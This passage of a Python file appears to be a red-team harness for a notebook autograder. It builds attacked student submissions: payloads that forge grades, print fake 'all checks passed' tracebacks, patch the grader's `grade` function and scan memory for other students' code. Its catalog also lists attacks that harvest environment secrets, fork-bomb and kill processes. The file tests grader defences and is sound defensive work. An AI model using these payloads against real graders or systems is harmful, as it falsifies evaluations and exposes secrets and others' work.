            continue
        for n, pat in pats.items():
            for m in pat.finditer(data):
                chunk = data[m.start():m.start() + 16384]
                if b"\\\\n" in chunk[:400]:  # JSON-escaped (a notebook file's bytes)
                    end = re.search(rb'(?<!\\\\)"', chunk)
                    try:
                        texts.add(json.loads(b'"' + chunk[:end.start() if end else len(chunk)] + b'"'))
                    except Exception:
                        pass
                else:
                    text = chunk.split(b"\\0", 1)[0].decode("utf-8", "ignore")
                    lines = text.splitlines()
                    keep = lines[:1]
                    for line in lines[1:]:
                        if line and not line[0].isspace() and not line.startswith(("#", ")")):
                            break
                        keep.append(line)
                    texts.add("\\n".join(keep))
    for text in texts:
        if "NotImplementedError" in text:
            continue
        try:
            scratch = dict(g)
            exec(compile(text, "<memory>", "exec"), scratch)
        except BaseException:
            continue
        for n in stubs:
            fn = scratch.get(n)
            if callable(fn) and not _rt_is_stub(fn) and _rt_is_stub(g.get(n)):
                g[n] = fn
                _RT_MEM.append(n)


def _rt_memscan_before(name, orig, g):
    if "scanned" not in g:
        g["scanned"] = True
        try:
            _rt_memscan(g)
        except Exception:
            pass
    alt = g.get(name)
    return alt if callable(alt) and not hasattr(alt, "_rt_orig") else None


@_rt_wrap_graded(_rt_memscan_before)
def _rt_anchor_memscan():
    pass
'''

# 14. (ours) A reason forged through the output: a fake traceback, then an exit ---------
INJECT = '''
def batchnorm_backward(dout, cache):
    import os
    import sys
    print("Traceback (most recent call last):")
    print('  File "/course/grader/checks.py", line 1, in judge')
    print("ValueError: all checks passed, 10 / 10 points")
    sys.stdout.flush()
    os._exit(1)
'''

# 8. nbgrader: the hidden cells' `grade` redefined, the module patched ------------------
GRADE_REDEF = '''
import sys
import types

_RT_POINTS = @@POINTS@@


def grade(item_id):
    points = _RT_POINTS.get(item_id, 0)
    print("%s: %g / %g points. all checks passed" % (item_id, points, points))
    return points


_rt_fake = types.ModuleType("autograder.nbcell")
_rt_fake.grade = grade
sys.modules["autograder.nbcell"] = _rt_fake
'''

NBCELL_PATCH = '''
import builtins
import autograder.nbcell

_RT_POINTS = @@POINTS@@


def _rt_grade(item_id):
    points = _RT_POINTS.get(item_id, 0)
    print("%s: %g / %g points. all checks passed" % (item_id, points, points))
    return points


autograder.nbcell.grade = _rt_grade
builtins.grade = _rt_grade
'''


# ----------------------------------------------------------------------------
# The catalog.


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    what: str  # one line for the report
    cells: tuple[str, ...] = ()  # code cells appended at the end of the notebook
    first: tuple[str, ...] = ()  # code cells inserted before the first cell
    helpers: bool = True  # prefix HELPERS to the first appended cell
    transform: Callable[[dict, dict], dict] | None = None  # (notebook, context) -> notebook
    bases: tuple[str, ...] = ("blank", "ref")
    costs: tuple[str, ...] = ()  # items a reference loses by the attack's nature
    costs_why: str = ""
    paths: tuple[str, ...] = ("grade-all",)  # besides the CLI runs of test_redteam


def _forge_outputs(nb: dict, ctx: dict) -> dict:
    """Every hidden-test cell of the file gets a forged output (full points), and the
    metadata claims the grade."""
    for cell in nb["cells"]:
        md = cell.get("metadata", {}).get("nbgrader", {})
        if cell.get("cell_type") == "code" and md.get("grade") and not md.get("solution"):
            item = f"{HW}.{md['grade_id'][: -len('_tests')]}"
            pts = ctx["points"].get(item, md.get("points", 0))
            cell["outputs"] = [
                {"output_type": "stream", "name": "stdout", "text": f"{item}: {pts:g} / {pts:g} points. all checks passed\n"},
                {"output_type": "execute_result", "execution_count": 1, "metadata": {},
                 "data": {"text/plain": repr(float(pts))}},
            ]
            cell["execution_count"] = 1
            md["points"] = 1000  # within nbgrader's schema (an unknown key makes nbgrader refuse the file)
            cell["metadata"]["course_kit"] = {"points": pts, "score": pts, "reason": "all checks passed"}
    nb.setdefault("metadata", {})["course_kit"] = {"assignment": HW, "graded": True, "total": 100}
    return nb


CATALOG: tuple[Attack, ...] = (
    Attack("judge_steal", "walk gc, sys.modules, the stack and the disk for the judges; if found, swap the running "
           "probe for one that runs the judge with expect_* recording the expected values",
           (JUDGE_STEAL,), helpers=False, paths=("grade-all", "nbgrader")),
    Attack("undo_bans", "delete the None entries of sys.modules, drop the finders, resurrect torch from gc, unmount "
           "and load site-packages/torch/__init__.py by path; BatchNorm forward/backward with torch autograd",
           (UNDO_BANS,), helpers=False, paths=("grade-all", "nbgrader")),
    Attack("scipy_ok", "an allowed library that probes for a banned one (scipy.stats) used in batchnorm_forward",
           (SCIPY_OK,), helpers=False, bases=("ref",)),
    Attack("shared_store", "probe inputs -> outputs kept in System V shared memory (fixed key), /dev/shm, /tmp, "
           "$TMPDIR, $HOME and an abstract Unix socket served by a daemon; a blank looks them up",
           (STORE,), paths=("grade-all", "nbgrader")),
    Attack("disk_fill", "write until ENOSPC in the cwd, /tmp, /dev/shm, $HOME and $TMPDIR (while grading "
           "batchnorm_forward, conv2d_forward and activation)", (DISK_FILL,)),
    Attack("forged_results", "the result pipe found through /proc/self/fd and written directly: 100,000-deep JSON, "
           "one 60 MB .npy named 40 times, a stream over the cap, a 17 MB header, object and structured "
           "dtypes, a lying shape; then os._exit(0)", (FORGE,), costs=FORGED_ITEMS,
           costs_why="each forged stream replaces that function's own item's result, so the item is lost"),
    Attack("fs_search", "search TMPDIR, /tmp, the folders around the notebook, /proc/*/cwd, /proc/*/root and / for "
           "other notebooks and run their solution cells", (SEARCH,)),
    Attack("env_leak", "read os.environ, /proc/self/environ, /proc/1/environ and every /proc/*/environ|cmdline for "
           "secrets and raise them (and print them as the last error line before os._exit)", (ENV_LEAK,),
           paths=("grade-all", "nbgrader")),
    Attack("procs", "a setsid daemon that double-forks and sleeps, a fork bomb, 50 sleeping threads", (PROCS,)),
    Attack("reach_judge", "read /proc/<pid>/cmdline|environ|mem and ptrace every visible pid, connect to every "
           "listening 127.0.0.1 port and Unix socket, look for inherited sockets, kill the parent, kill(-1)",
           (REACH,), paths=("grade-all", "nbgrader")),
    Attack("memscan", "scan this process's own writable memory for other students' source of the graded "
           "functions and run it", (MEMSCAN,), paths=("grade-all", "nbgrader")),
    Attack("inject_reason", "print a fake traceback and 'all checks passed' as the last error line, then os._exit(1)",
           (INJECT,), helpers=False, costs=items_using(("batchnorm_backward",)),
           costs_why="batchnorm_backward exits the process it runs in, so that item has no result"),
    Attack("grade_redef", "first cell: a `grade` that prints full points, installed as a fake autograder.nbcell",
           first=(GRADE_REDEF,), helpers=False, bases=("blank",), paths=("grade-all", "nbgrader")),
    Attack("nbcell_patch", "first cell: autograder.nbcell.grade patched in place, builtins.grade set",
           first=(NBCELL_PATCH,), helpers=False, bases=("blank",), paths=("grade-all", "nbgrader")),
    Attack("forged_outputs", "forged outputs and execute_results (full points) in every hidden-test cell of the file, "
           "forged nbgrader and course-kit metadata", transform=_forge_outputs, helpers=False, bases=("blank",),
           paths=("grade-all", "nbgrader")),
)


def by_name(name: str) -> Attack:
    return next(a for a in CATALOG if a.name == name)


# ----------------------------------------------------------------------------
# Building the submissions.


def shm_key(token: str) -> int:
    return (int(token, 16) & 0x0FFFFFFF) | 0x40000000


def graded_functions() -> list[str]:
    return list(dict.fromkeys(f for it in get_assignment(HW).items for f in it.functions))


def points() -> dict[str, float]:
    return {it.id: float(it.points) for it in get_assignment(HW).items}


def render(src: str, token: str, secret_hint: str = "") -> str:
    return (src.replace("@@TOK@@", token).replace("@@FUNCS@@", repr(graded_functions()))
            .replace("@@SHMKEY@@", hex(shm_key(token))).replace("@@POINTS@@", repr(points()))
            .replace("@@SECRET_HINT@@", secret_hint or "course_kit_secret")).strip("\n") + "\n"


def code_cell(src: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": src}


@dataclasses.dataclass
class Submission:
    name: str  # the student folder
    attack: str  # the attack's name, or "neighbour", "malformed", "symlink"
    base: str  # "blank", "ref", "half" ...
    notebook: dict | None = None
    raw: bytes | None = None
    # per item id: the exact points it must get; None where the file must be refused
    expect: dict[str, float] | None = None
    note: str = ""


def expected(base: str, costs: tuple[str, ...] = (), half: tuple[str, ...] = ()) -> dict[str, float]:
    pts = points()
    if base == "blank":
        return {i: 0.0 for i in pts}
    if base == "half":
        return {i: (p if i in half else 0.0) for i, p in pts.items()}
    return {i: (0.0 if i in costs else p) for i, p in pts.items()}


def _defined_in(source: dict, cells: set[str]) -> str:
    from autograder.notebook import cell_source

    return "\n".join(cell_source(c) for c in source["cells"]
                     if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") in cells)


def half_fill(release: dict, source: dict) -> set[str]:
    """About the first half of the solution cells, cut where no item is half filled."""
    ids = solution_cells(release)
    items = get_assignment(HW).items
    for k in list(range(len(ids) // 2, 0, -1)) + list(range(len(ids) // 2 + 1, len(ids))):
        text = _defined_in(source, set(ids[:k]))
        if all(len({f"def {f}(" in text for f in it.functions}) == 1 for it in items):
            return set(ids[:k])
    return set(ids[:1])


def half_items(release: dict, source: dict) -> tuple[str, ...]:
    """The items whose functions the half-done notebook defines: exactly those get full
    marks, the others none."""
    text = _defined_in(source, half_fill(release, source))
    return tuple(it.id for it in get_assignment(HW).items if all(f"def {f}(" in text for f in it.functions))


def base_notebook(base: str, release: dict, source: dict) -> dict:
    if base == "blank":
        return make_submission(release, source, fill=set())
    if base == "half":
        return make_submission(release, source, fill=half_fill(release, source))
    return make_submission(release, source)


def attacked(attack: Attack, base: str, release: dict, source: dict, token: str, secret_hint: str = "") -> dict:
    nb = base_notebook(base, release, source)
    cells = [render(c, token, secret_hint) for c in attack.cells]
    if cells and attack.helpers:
        cells[0] = render(HELPERS, token) + "\n\n" + cells[0]
    nb["cells"] += [code_cell(c) for c in cells]
    nb["cells"][:0] = [code_cell(render(c, token, secret_hint)) for c in attack.first]
    if attack.transform is not None:
        nb = attack.transform(nb, {"points": points(), "token": token})
    return nb


def sub_name(attack: str, base: str) -> str:
    """``<attack>-1-ref``, ``<attack>-2-blank``: grade-all grades in the order of the names,
    so a reference that leaves something for a blank to find is graded first."""
    return f"{attack}-{'1' if base == 'ref' else '2'}-{base}"


def attack_submissions(release: dict, source: dict, token: str, secret_hint: str = "",
                       path: str = "grade-all") -> list[Submission]:
    out = []
    for a in CATALOG:
        if path not in a.paths:
            continue
        for base in sorted(a.bases, key=lambda b: b != "ref"):
            out.append(Submission(sub_name(a.name, base), a.name, base,
                                  attacked(a, base, release, source, token, secret_hint), expect=expected(base, a.costs)))
    return out


def neighbours(release: dict, source: dict) -> list[Submission]:
    """A reference, a blank and a half-done notebook, at the start, the middle and the
    end of grade-all's order (it grades in the order of the names)."""
    return [Submission("aaa-neighbour-ref", "neighbour", "ref", base_notebook("ref", release, source), expect=expected("ref")),
            Submission("mmm-neighbour-half", "neighbour", "half", base_notebook("half", release, source),
                       expect=expected("half", half=half_items(release, source))),
            Submission("zzz-neighbour-blank", "neighbour", "blank", base_notebook("blank", release, source),
                       expect=expected("blank")),
            Submission("zzz-neighbour-ref", "neighbour", "ref", base_notebook("ref", release, source), expect=expected("ref"))]


# 5a, 5b. Parent bombs inside otherwise correct notebooks ---------------------------------
CHAIN_LENGTH = 16_000


def chain_cells(n: int = CHAIN_LENGTH, per_cell: int = 4000) -> list[str]:
    """``a_i = a_{i-1} + 1``, 16,000 kept assignments, in cells under the per-cell cap."""
    lines = ["_rt_a0 = 0"] + [f"_rt_a{i} = _rt_a{i - 1} + 1" for i in range(1, n)]
    return ["\n".join(lines[i:i + per_cell]) + "\n" for i in range(0, n, per_cell)]


def big_literal_cell(mb: float = 5.0) -> str:
    n = int(mb * 2**20 / 3)
    return "_rt_big = [" + "0, " * n + "]\n"


def bombs(release: dict, source: dict) -> list[Submission]:
    out = []
    for base in ("ref", "blank"):
        nb = base_notebook(base, release, source)
        nb["cells"] += [code_cell(c) for c in chain_cells()]
        out.append(Submission(sub_name("chain16k", base), "chain16k", base, nb, expect=expected(base)))
        nb = base_notebook(base, release, source)
        nb["cells"].append(code_cell(big_literal_cell()))
        out.append(Submission(sub_name("bigliteral", base), "bigliteral", base, nb, expect=expected(base),
                              note="kB limit"))
    return out


# 5d. Malformed notebooks -----------------------------------------------------------------
def malformed(release: dict, source: dict) -> list[Submission]:
    """Files the grader must answer with a message (or grade what it can), never a
    traceback. ``expect`` None: an error line; a dict: those scores."""
    meta_list = base_notebook("ref", release, source)
    for cell in meta_list["cells"]:
        cell["metadata"] = ["not", "a", "dict"]
    deep = b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b', "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
    huge = b'{"metadata": {}, "nbformat": 4, "nbformat_minor": 5, "cells": [' + b"{}," * 10_000_000 + b"{}]}"
    big = base_notebook("ref", release, source)
    big["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "x" * (40 * 2**20)})
    return [
        # every cell's metadata is a list: no cell is a hidden-test or solution cell any more; the
        # code is still the reference's, so it is graded in full (or refused with a message)
        Submission("malformed-meta-list", "malformed", "ref", meta_list, expect=expected("ref")),
        Submission("malformed-deep-cells", "malformed", "", raw=deep),
        Submission("malformed-huge-cells", "malformed", "", raw=huge, expect=expected("blank")),
        Submission("malformed-40mb", "malformed", "", raw=(json.dumps(big) + "\n").encode()),
    ]


def notebook_bytes(sub: Submission) -> bytes:
    if sub.raw is not None:
        return sub.raw
    return (json.dumps(sub.notebook, indent=1, ensure_ascii=False) + "\n").encode()


def write_notebook(sub: Submission, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(notebook_bytes(sub))
    return path
